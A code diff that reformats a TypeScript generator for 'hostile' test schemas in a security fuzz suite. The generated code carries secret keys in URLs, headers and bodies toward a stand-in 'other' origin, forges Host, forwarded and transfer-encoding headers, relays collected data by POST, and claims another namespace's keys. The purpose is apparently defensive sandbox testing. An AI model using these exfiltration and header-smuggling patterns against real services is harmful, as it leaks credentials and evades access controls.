@@ -96,7 +96,17 @@ export function markerSchema(caseNumber: number): string {
 `;
 }
 
-export const TARGETS = ['root', 'other', 'down', 'keyed', 'forbidden-http', 'forbidden-https-literal', 'forbidden-plain-as-https', 'attacker-by-label', 'user-url'] as const;
+export const TARGETS = [
+  'root',
+  'other',
+  'down',
+  'keyed',
+  'forbidden-http',
+  'forbidden-https-literal',
+  'forbidden-plain-as-https',
+  'attacker-by-label',
+  'user-url',
+] as const;
 export type Target = (typeof TARGETS)[number];
 export type KeyName = 'FUZZ_KEY' | 'FUZZ_ENV_KEY';
 
@@ -176,7 +186,10 @@ function initExpression(action: FetchAction, places: Places): string {
   if (action.carry === 'header') headers.push(`'x-k': ${token}`);
   if (action.headers === 'host-other') headers.push(`host: 'other.fuzz.example'`);
   if (action.headers === 'host-forbidden') headers.push(`Host: '127.0.0.1:${places.forbiddenHttpPort}'`);
-  if (action.headers === 'forwarded') headers.push(`'x-forwarded-host': 'other.fuzz.example', forwarded: 'host=other.fuzz.example', 'proxy-authorization': 'x'`);
+  if (action.headers === 'forwarded')
+    headers.push(
+      `'x-forwarded-host': 'other.fuzz.example', forwarded: 'host=other.fuzz.example', 'proxy-authorization': 'x'`,
+    );
   if (action.headers === 'transfer-encoding') headers.push(`'transfer-encoding': 'chunked', 'content-length': '3'`);
   if (action.headers === 'connection') headers.push(`connection: 'close, x-api-key'`);
   const text = action.carry === 'body' ? `'k=' + ${token}` : `'plain body'`;
@@ -193,12 +206,19 @@ function initExpression(action: FetchAction, places: Places): string {
 
 function actionCode(action: FetchAction, index: number, places: Places, root: string): string {
   const url = urlExpression(action, places, root);
-  const withKey = action.carry === 'url' ? `${url} + '&k=' + encodeURIComponent(String(keys[${JSON.stringify(action.key)}]))` : url;
+  const withKey =
+    action.carry === 'url' ? `${url} + '&k=' + encodeURIComponent(String(keys[${JSON.stringify(action.key)}]))` : url;
   const start = `one(${withKey}, ${initExpression(action, places)})`;
   return `            for (let i${index} = 0; i${index} < ${action.count}; i${index}++) ${action.detached ? `Promise.resolve().then(() => ${start});` : `pending.push(${start});`}`;
 }
 
-const HEAD = (namespace: string, root: string, declares: KeyName[], keyHeader: boolean, extraDescription = '') => `export const main = {
+const HEAD = (
+  namespace: string,
+  root: string,
+  declares: KeyName[],
+  keyHeader: boolean,
+  extraDescription = '',
+) => `export const main = {
     namespace: '${namespace}',
     name: 'Hostile',
     description: 'A hostile schema of the fuzz suite.${extraDescription}',
@@ -239,8 +259,12 @@ export const handlers = ({ sharedLists, libraries }) => ({
             const pending = [];
 ${file.actions.map((action, i) => actionCode(action, i, places, root)).join('\n')}
             await Promise.all(pending);
-${file.relay ? `            await one('${ORIGINS.other}/h/relay?t=' + tag, { method: 'POST', body: JSON.stringify(seen) });
-` : ''}            return { response: { seen, keys, template: template('x') } };
+${
+  file.relay
+    ? `            await one('${ORIGINS.other}/h/relay?t=' + tag, { method: 'POST', body: JSON.stringify(seen) });
+`
+    : ''
+}            return { response: { seen, keys, template: template('x') } };
         }
     }
 });
@@ -270,7 +294,13 @@ export function hostileText(file: HostileFile, n: number, places: Places): strin
       return `${HEAD(namespace, ORIGINS.other, [], false)}\n${LOOPERS[file.how]}\n`;
     case 'squatter':
       // A second file claiming the operator's namespace and its keys (issue 23, point 4).
-      return HEAD('keyed', ORIGINS[file.root], ['FUZZ_KEY', 'FUZZ_ENV_KEY'], true, ' It claims the namespace of another.');
+      return HEAD(
+        'keyed',
+        ORIGINS[file.root],
+        ['FUZZ_KEY', 'FUZZ_ENV_KEY'],
+        true,
+        ' It claims the namespace of another.',
+      );
     case 'fetcher':
       return fetcherText(file, namespace, places);
   }
